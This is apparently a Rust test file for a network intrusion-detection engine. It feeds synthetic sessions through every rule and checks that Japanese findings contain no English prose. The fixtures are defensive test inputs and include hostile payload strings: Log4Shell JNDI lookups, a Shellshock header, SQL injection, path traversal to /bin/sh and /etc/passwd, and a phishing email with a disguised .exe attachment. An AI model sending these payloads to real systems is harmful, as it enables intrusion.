//! Japanese all the way: every rule fires on a realistic session with its richest
//! signals, and the Japanese findings (what the report's 「検知の根拠となった通信の特徴」
//! and the CSV show) contain no English prose outside names, protocol words and quoted
//! data; the English findings still say it in English.

mod common;

use common::*;
use kuroko_detect::signals::english_words;
use kuroko_detect::{Engine, RuleId};
use kuroko_model::config::Config;
use kuroko_model::finding::{Finding, Lang};
use kuroko_model::session::*;
use kuroko_model::{SessionRecord, Timestamp};

/// One session (or a few) per rule, each carrying the data its signals quote.
fn sessions(t: Timestamp) -> Vec<SessionRecord> {
    let mut out = vec![telnet("tn", "10.0.0.5", "10.0.3.1", t)];

    let mut ftp = session("ftp", "ftp", "10.0.0.5", 45_000, "203.0.113.21", 21, t);
    ftp.ftp = Some(Ftp {
        user: Some("alice".into()),
        commands: vec![
            "USER alice".into(),
            "PASS ****".into(),
            "STOR 顧客.xlsx".into(),
        ],
        files: vec![
            FtpFile {
                name: "顧客.xlsx".into(),
                direction: "upload".into(),
                bytes: 12_000,
                sha256: None,
                ..Default::default()
            },
            FtpFile {
                name: "list.csv".into(),
                direction: "download".into(),
                bytes: 1_000,
                sha256: None,
                ..Default::default()
            },
        ],
        control_session: None,
        banner: None,
    });
    out.push(ftp.clone());
    let mut ftp_in = ftp;
    ftp_in.id = "ftp-in".into();
    ftp_in.server.ip = "10.0.0.21".parse().unwrap();
    out.push(ftp_in);

    let mut winrm = web("wr", "10.0.0.5", "10.0.0.9", "10.0.0.9:5985", "/wsman", t);
    winrm.server.port = 5985;
    out.push(winrm);
    let mut winrm_tcp = session("wr2", "tcp", "10.0.0.6", 40_000, "10.0.0.9", 5986, t);
    winrm_tcp.bytes_up = 500;
    out.push(winrm_tcp);

    let mut oracle = session("ora", "oracle", "10.0.0.5", 40_000, "10.0.0.40", 1521, t);
    oracle.oracle = Some(Oracle {
        service_name: Some("ORCLPDB1".into()),
        ..Default::default()
    });
    out.push(oracle);

    let mut ssh = session("ssh", "ssh", "10.0.0.5", 40_000, "198.51.100.22", 22, t);
    ssh.ssh = Some(Ssh {
        client_version: Some("SSH-2.0-OpenSSH_9.6".into()),
        server_version: Some("SSH-2.0-OpenSSH_7.4".into()),
    });
    out.push(ssh);
    let mut old = session("ssh-in", "ssh", "10.0.0.5", 40_001, "10.0.0.8", 22, t);
    old.ssh = Some(Ssh {
        client_version: None,
        server_version: Some("SSH-2.0-OpenSSH_8.9p1 Ubuntu-3ubuntu0.10".into()),
    });
    out.push(old);

    for (i, uri) in [
        "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession",
        "/index.php?id=1%20UNION%20SELECT%20password%20FROM%20users",
        "/cgi-bin/.%2e/.%2e/bin/sh",
        "/.env",
        "/search?q=<script>alert(1)</script>",
        "/?x=${jndi:ldap://198.51.100.9/a}",
        "/etc/passwd",
    ]
    .iter()
    .enumerate()
    {
        let mut s = web(
            &format!("ex{i}"),
            "203.0.113.7",
            "10.0.0.80",
            "www.corp.example",
            uri,
            t,
        );
        if let Some(h) = s.http.as_mut() {
            h.transactions[0]
                .headers
                .push(("x-api-version".into(), "${jndi:ldap://a/b}".into()));
            h.transactions[0]
                .headers
                .push(("cookie".into(), "SESSID=../../x".into()));
            h.transactions[0]
                .headers
                .push(("referer".into(), "() { :; }; /bin/bash -c id".into()));
        }
        out.push(s);
    }

    let mut forti = web(
        "fg",
        "198.51.100.70",
        "10.0.0.1",
        "vpn.corp.example",
        "/remote/login",
        t,
    );
    if let Some(h) = forti.http.as_mut() {
        h.transactions[0].title = Some("FortiGate".into());
        h.transactions[0].server = Some("xxxxxxxx-xxxxx".into());
    }
    out.push(forti);
    let mut forti_tls = tls("fgt", "198.51.100.71", "10.0.0.1", "vpn.corp.example", t);
    if let Some(x) = forti_tls.tls.as_mut() {
        x.cert_subject = Some("C=US, O=Fortinet, OU=FortiGate, CN=FGT60F".into());
        x.cert_issuer = Some("C=US, O=Fortinet Ltd., CN=FortiGate CA".into());
    }
    out.push(forti_tls);

    let mut connect = session("cn", "http", "10.0.0.5", 40_000, "10.0.0.3", 8080, t);
    connect.http = Some(Http {
        method: Some("CONNECT".into()),
        url: Some("198.51.100.5:4444".into()),
        ..Default::default()
    });
    out.push(connect);

    out.push(tls("yt", "10.0.0.5", "142.250.1.1", "www.youtube.com", t));

    let mut mail = session("ml", "smtp", "203.0.113.50", 40_000, "10.0.0.25", 25, t);
    mail.mail = Some(Mail {
        from: Some("info@resonabnak.co.jp".into()),
        from_display: Some("りそな銀行 <support@resonabank.co.jp>".into()),
        reply_to: Some("help@other.example".into()),
        to: vec!["tanaka@corp.example".into()],
        subject: Some("【重要】口座の確認".into()),
        links: vec![
            Link {
                text: "https://www.resonabank.co.jp/".into(),
                href: "https://resonabank-kakunin.example/login".into(),
            },
            Link {
                text: "こちら".into(),
                href: "http://www.smbc.co.jp@198.51.100.7/".into(),
            },
        ],
        attachments: vec![
            Attachment {
                name: "請求書.pdf.exe".into(),
                bytes: 1_000,
                sha256: None,
                content_type: None,
            },
            Attachment {
                name: "資料.docm".into(),
                bytes: 1_000,
                sha256: None,
                content_type: None,
            },
        ],
        ..Default::default()
    });
    out.push(mail);

    // Reputation: listed (see the config), both directions.
    out.push(session(
        "rp1",
        "tcp",
        "192.0.2.66",
        40_000,
        "10.0.0.80",
        22,
        t,
    ));
    out.push(session(
        "rp2",
        "tls",
        "10.0.0.5",
        40_000,
        "192.0.2.77",
        443,
        t,
    ));

    // An inside server announcing a vulnerable release (no distribution package named).
    let mut vuln = session("vuln", "ssh", "10.0.0.5", 40_002, "10.0.0.7", 22, t);
    vuln.ssh = Some(Ssh {
        client_version: None,
        server_version: Some("SSH-2.0-OpenSSH_9.2p1".into()),
    });
    out.push(vuln);

    // An inside TLS server: TLS 1.0, RC4, an expired self-signed certificate for another name.
    let mut weak = session("weak", "tls", "10.0.0.5", 40_003, "10.0.0.9", 443, t);
    weak.tls = Some(Tls {
        sni: Some("mail.example.jp".into()),
        version: Some("TLSv1.0".into()),
        cipher: Some("TLS_RSA_WITH_RC4_128_SHA".into()),
        certs: vec![Cert {
            subject: "CN=intra.example.jp".into(),
            issuer: "CN=intra.example.jp".into(),
            not_after: "2020-01-01T00:00:00Z".into(),
            expired: true,
            self_signed: true,
            ..Default::default()
        }],
        ..Default::default()
    });
    out.push(weak);

    // A VPN client uploading 150 MB.
    let mut up = session("vpn", "https", "10.200.0.9", 40_000, "10.0.0.30", 443, t);
    up.bytes_up = 150_000_000;
    out.push(up);

    // A download whose body matched YARA rules (names as the analyzer writes them).
    let mut dl = session("yara", "http", "10.0.0.5", 40_004, "203.0.113.7", 80, t);
    dl.files.push(FileRef {
        sha256: "ab".repeat(32),
        name: Some("請求書.doc".into()),
        bytes: 24_576,
        direction: "download".into(),
        kind: "http-body".into(),
        yara: vec!["Maldoc_VBA_Macro".into(), "Emotet_Loader".into()],
        yara_level: Some("A".into()),
        ..Default::default()
    });
    out.push(dl);
    out
}

fn findings(lang: Lang) -> Vec<Finding> {
    let dir = tempfile::tempdir().unwrap();
    let list = dir.path().join("drop.txt");
    std::fs::write(&list, "; Spamhaus DROP\n192.0.2.0/24 ; SBL1\n").unwrap();
    let mut c = Config::default();
    c.intel.reputation_lists = vec![list];
    c.site.vpn_pools = vec!["10.200.0.0/24".into()];
    let mut e = Engine::new(&c).unwrap();
    for s in sessions(office_hours()) {
        e.observe(&s);
    }
    // intel_match, live (hits the analyzer put in the record) and from a re-check.
    let mut c2 = session(
        "c2",
        "tls",
        "10.0.0.5",
        40_000,
        "198.51.100.7",
        443,
        office_hours(),
    );
    let hit = |kind: &str, ind: &str| IntelHit {
        feed: "feodo".into(),
        kind: kind.into(),
        indicator: ind.into(),
        pack: "abuse".into(),
        label: "Dridex".into(),
    };
    c2.intel = vec![
        hit("address", "198.51.100.7"),
        hit("cert_sha1", &"a".repeat(40)),
    ];
    e.observe(&c2);
    c2.id = "c2-old".into();
    c2.server.ip = "198.51.100.8".parse().unwrap();
    e.observe_retro(&c2, &[hit("ja3", &"b".repeat(32))], "2026-12-07T06:00:00Z");
    e.findings(lang)
}

#[test]
fn every_rule_fires_and_its_japanese_signals_have_no_english_prose() {
    let ja = findings(Lang::Ja);
    for rule in RuleId::ALL {
        assert!(
            ja.iter().any(|f| f.rule == rule.as_str()),
            "{rule} did not fire: the test must cover every rule"
        );
    }
    let mut bad = Vec::new();
    for f in &ja {
        assert!(!f.signals.is_empty(), "{}: no signals", f.rule);
        for s in f.signals.iter().chain([&f.title]) {
            let words = english_words(s);
            if !words.is_empty() {
                bad.push(format!("{}: {s}  ({words:?})", f.rule));
            }
        }
    }
    assert!(
        bad.is_empty(),
        "English in the Japanese findings:\n{}",
        bad.join("\n")
    );
}

#[test]
fn the_english_findings_say_the_same_in_english() {
    let en = findings(Lang::En);
    let ftp = en
        .iter()
        .find(|f| f.rule == "ftp_default_port_external")
        .unwrap();
    assert!(
        ftp.signals
            .iter()
            .any(|s| s == "login user `alice` sent in clear text"),
        "{:?}",
        ftp.signals
    );
    let ja = findings(Lang::Ja);
    let ftp = ja
        .iter()
        .find(|f| f.rule == "ftp_default_port_external")
        .unwrap();
    assert!(
        ftp.signals
            .iter()
            .any(|s| s == "ログインユーザー `alice` を平文で送信"),
        "{:?}",
        ftp.signals
    );
}
